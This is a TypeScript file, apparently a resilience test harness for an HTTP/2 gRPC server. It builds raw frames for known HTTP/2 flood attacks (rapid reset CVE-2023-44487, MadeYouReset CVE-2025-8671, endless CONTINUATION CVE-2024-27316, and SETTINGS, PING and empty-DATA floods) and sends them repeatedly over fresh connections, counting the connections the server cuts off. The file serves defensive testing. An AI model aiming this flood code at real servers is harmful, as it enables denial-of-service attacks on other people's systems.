import { connect } from "node:net";
import { FrameType, PREFACE } from "../../mesh/http2/frame.ts";
import { HpackEncoder } from "../../mesh/http2/hpack/encoder.ts";
import { uint32 } from "../../mesh/http2/raw-peer.ts";
import { FrameFlag, frame } from "../../mesh/testing/http2-frames.ts";
import { CHAT_PATH } from "./contract.ts";
import { HOST } from "./peer.ts";

/** What somebody does who means harm: says something again and again, on a connection, and on the next when that is over. */
export interface Attack {
  /** For programs. */
  readonly name: string;
  /** For people. */
  readonly title: string;
  /** What is said after the preface. */
  readonly opening?: (encoder: HpackEncoder) => Buffer;
  /** What is said in this turn, counted from 0. */
  readonly turn: (turn: number, encoder: HpackEncoder) => Buffer;
}

const CANCEL = 8;
const EMPTY = Buffer.alloc(0);
const LITERALS = Buffer.from("000161016200016101620001610162", "hex");

/** Floods that servers of HTTP/2 are known to suffer from. */
export const ATTACKS: readonly Attack[] = [
  {
    name: "rapid-reset",
    title: "rapid reset (CVE-2023-44487)",
    turn: (turn, encoder) =>
      Buffer.concat([
        call(2 * turn + 1, encoder, FrameFlag.END_HEADERS),
        frame(FrameType.RST_STREAM, 0, 2 * turn + 1, uint32(CANCEL)),
      ]),
  },
  {
    name: "made-you-reset",
    title: "MadeYouReset (CVE-2025-8671)",
    turn: (turn, encoder) =>
      Buffer.concat([
        call(2 * turn + 1, encoder, FrameFlag.END_HEADERS),
        call(2 * turn + 1, encoder, FrameFlag.END_HEADERS),
      ]),
  },
  {
    name: "continuation",
    title: "CONTINUATION without end (CVE-2024-27316)",
    opening: (encoder) => call(1, encoder, 0),
    turn: () => frame(FrameType.CONTINUATION, 0, 1, LITERALS),
  },
  {
    name: "settings",
    title: "SETTINGS",
    turn: () => frame(FrameType.SETTINGS, 0, 0, Buffer.from("000100001000", "hex")),
  },
  { name: "ping", title: "PING", turn: () => frame(FrameType.PING, 0, 0, Buffer.alloc(8)) },
  {
    name: "empty-data",
    title: "empty DATA",
    opening: (encoder) => call(1, encoder, FrameFlag.END_HEADERS),
    turn: () => frame(FrameType.DATA, 0, 1, EMPTY),
  },
];

/** What became of an attack. */
export interface Attacked {
  /** Connections that the server closed. */
  readonly cutOff: number;
  /** How often it said its own: one frame, or two. */
  readonly turns: number;
}

const TURNS_AT_ONCE = 50;

/** Attacks for so long, on one connection after the other. */
export async function attack({ opening, turn }: Attack, port: number, ms: number): Promise<Attacked> {
  const untilMs = performance.now() + ms;
  let cutOff = 0;
  let turns = 0;
  while (performance.now() < untilMs) {
    const socket = connect({ host: HOST, port, noDelay: true });
    socket.on("error", () => {});
    socket.resume();
    let isOver = false;
    const over = new Promise<void>((resolve) => {
      socket.once("close", () => {
        isOver = true;
        resolve();
      });
    });
    const encoder = new HpackEncoder();
    socket.write(
      Buffer.concat([PREFACE, frame(FrameType.SETTINGS, 0, 0, EMPTY), opening?.(encoder) ?? EMPTY]),
    );
    for (let at = 0; !isOver && performance.now() < untilMs; at += TURNS_AT_ONCE) {
      const octets = Buffer.concat(Array.from({ length: TURNS_AT_ONCE }, (_, i) => turn(at + i, encoder)));
      await Promise.race([new Promise((resolve) => socket.write(octets, resolve)), over]);
      turns += TURNS_AT_ONCE;
      // Writing alone lets nobody read.
      await new Promise(setImmediate);
    }
    if (isOver) cutOff++;
    socket.destroy();
    await over;
  }
  return { cutOff, turns };
}

/** HEADERS of a stream both ways. */
function call(stream: number, encoder: HpackEncoder, flags: number): Buffer {
  const fields = [
    { name: ":method", value: "POST" },
    { name: ":scheme", value: "http" },
    { name: ":path", value: CHAT_PATH },
    { name: ":authority", value: HOST },
    { name: "content-type", value: "application/grpc" },
    { name: "te", value: "trailers" },
  ];
  const block = Buffer.alloc(encoder.bound(fields));
  return frame(FrameType.HEADERS, flags, stream, block.subarray(0, encoder.encode(fields, block, 0)));
}
